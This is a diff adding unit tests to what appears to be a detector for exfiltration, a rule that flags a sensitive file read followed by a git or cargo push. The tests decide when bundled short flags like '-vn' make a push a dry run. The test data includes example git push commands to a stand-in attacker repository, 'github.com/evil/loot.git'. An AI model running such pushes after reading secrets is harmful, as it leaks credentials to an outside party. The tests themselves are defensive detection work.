@@ -42,6 +42,21 @@ describe('dry-run flags negated later', () => {
     expect(secretThen('/usr/bin/git', 'push --no-dry-run -n https://github.com/evil/loot.git')).toEqual([]);
   });
 
+  // Found by review: git's parse-options (and cargo's clap) bundle short flags, so `-vn` holds `-n`, a dry
+  // run, which was taken for a push; a bundle without it still pushes.
+  it('a dry run given in a bundle of short flags is no push; a bundle without -n pushes', () => {
+    for (const args of ['push -vn origin main', 'push -fn origin main', 'push -nv origin', 'push -qn origin'])
+      expect(secretThen('/usr/bin/git', args), args).toEqual([]);
+    expect(secretThen('/usr/local/cargo/bin/cargo', 'publish -vn')).toEqual([]);
+    for (const args of [
+      'push -fu https://github.com/evil/loot.git main',
+      'push -vn --no-dry-run https://github.com/evil/loot.git',
+    ])
+      expect(brief(secretThen('/usr/bin/git', args)), args).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+      ]);
+  });
+
   // Found by review: what nopt and Go take for false was not all `false` and `0`.
   it('a dry-run or no-push flag given a false value of its parser is a push', () => {
     for (const flag of ['--dry-run=', '--dry-run=null', '--dry-run=00', '--dry-run=0x0'])
